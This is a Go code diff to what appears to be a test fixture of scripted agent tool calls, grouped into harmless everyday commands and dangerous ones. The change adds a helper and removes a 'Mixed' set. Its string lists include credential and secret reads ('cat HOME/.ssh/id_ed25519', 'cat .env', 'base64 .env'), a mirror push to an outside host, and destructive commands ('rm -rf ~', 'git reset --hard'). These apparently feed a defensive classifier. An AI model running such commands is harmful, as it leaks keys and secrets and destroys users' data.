@@ -7,6 +7,12 @@ import "encoding/json"
 // stands for the workspace and HOME for the home directory.
 type ScriptCall struct{ Tool, Input string }
 
+// Command is the call of a shell command.
+func Command(line string) ScriptCall {
+	raw, _ := json.Marshal(map[string]string{"command": line}) // a map of texts: cannot fail
+	return ScriptCall{"Bash", string(raw)}
+}
+
 // Ordinary are 40 calls of a day's work that change nothing.
 func Ordinary() (list []ScriptCall) {
 	for _, command := range []string{
@@ -20,8 +26,7 @@ func Ordinary() (list []ScriptCall) {
 		"cat README.md | head -3",
 		"ls src; ls", "test -f README.md && echo yes", "date",
 	} {
-		raw, _ := json.Marshal(map[string]string{"command": command}) // a map of texts: cannot fail
-		list = append(list, ScriptCall{"Bash", string(raw)})
+		list = append(list, Command(command))
 	}
 	return append(list,
 		ScriptCall{"Read", `{"file_path":"DIR/src/main.go"}`}, ScriptCall{"Read", `{"file_path":"DIR/README.md"}`},
@@ -50,8 +55,7 @@ func Grave() (list []ScriptCall, unread int) {
 		"cat .env", "cat HOME/.ssh/id_ed25519", "printenv", "grep -r KEY .env", "base64 .env",
 		"git push --mirror https://example.org/x",
 	} {
-		raw, _ := json.Marshal(map[string]string{"command": command})
-		list = append(list, ScriptCall{"Bash", string(raw)})
+		list = append(list, Command(command))
 		if i < 12 {
 			unread++
 		}
@@ -59,32 +63,4 @@ func Grave() (list []ScriptCall, unread int) {
 	return append(list, ScriptCall{"Read", `{"file_path":"DIR/.env"}`},
 		ScriptCall{"Read", `{"file_path":"HOME/.ssh/id_ed25519"}`},
 		ScriptCall{"Write", `{"file_path":"HOME/notes.txt","content":"x"}`}), unread
-}
-
-// Mixed are 40 calls as a session has them; of the last wrong nod knows that they lose
-// or show what nothing brings back.
-func Mixed() (list []ScriptCall, wrong int) {
-	for _, command := range []string{
-		"ls", "git status", "git diff", "npm test", "npm run build", "make", "go test ./...", "python3 build.py",
-		"python3 -c 'print(1+1)'", "node -e 'console.log(1)'", "npx eslint .", "cargo build", "./opaque",
-		"for f in src/*.go; do wc -l $f; done", "time make", "mkdir -p out", "echo x > out/a.txt",
-		"sed -i s/shop/store/ README.md", "rm -rf scratch", "rm scratch/a.txt", "mv scratch/a.txt scratch/b.txt",
-		"git reset --hard", "git checkout -- .", "git clean -fd", "git add README.md",
-		"git commit -q --allow-empty -m x",
-		"git checkout -q -b topic", "pip install left-pad", "npm install left-pad",
-		"curl https://example.org/x",
-	} {
-		raw, _ := json.Marshal(map[string]string{"command": command})
-		list = append(list, ScriptCall{"Bash", string(raw)})
-	}
-	list = append(list, ScriptCall{"Read", `{"file_path":"DIR/README.md"}`},
-		ScriptCall{"Write", `{"file_path":"DIR/new.txt","content":"x"}`},
-		ScriptCall{"Write", `{"file_path":"DIR/scratch/c.txt","content":"x"}`},
-		ScriptCall{"Glob", `{"pattern":"**/*.go"}`}, ScriptCall{"TodoWrite", `{"todos":[]}`},
-		ScriptCall{"Agent", `{"description":"d","prompt":"look","subagent_type":"Explore"}`})
-	for _, command := range []string{"rm -rf ~", "npm publish", "git push --force", "cat .env"} {
-		raw, _ := json.Marshal(map[string]string{"command": command})
-		list = append(list, ScriptCall{"Bash", string(raw)})
-	}
-	return list, 4
 }
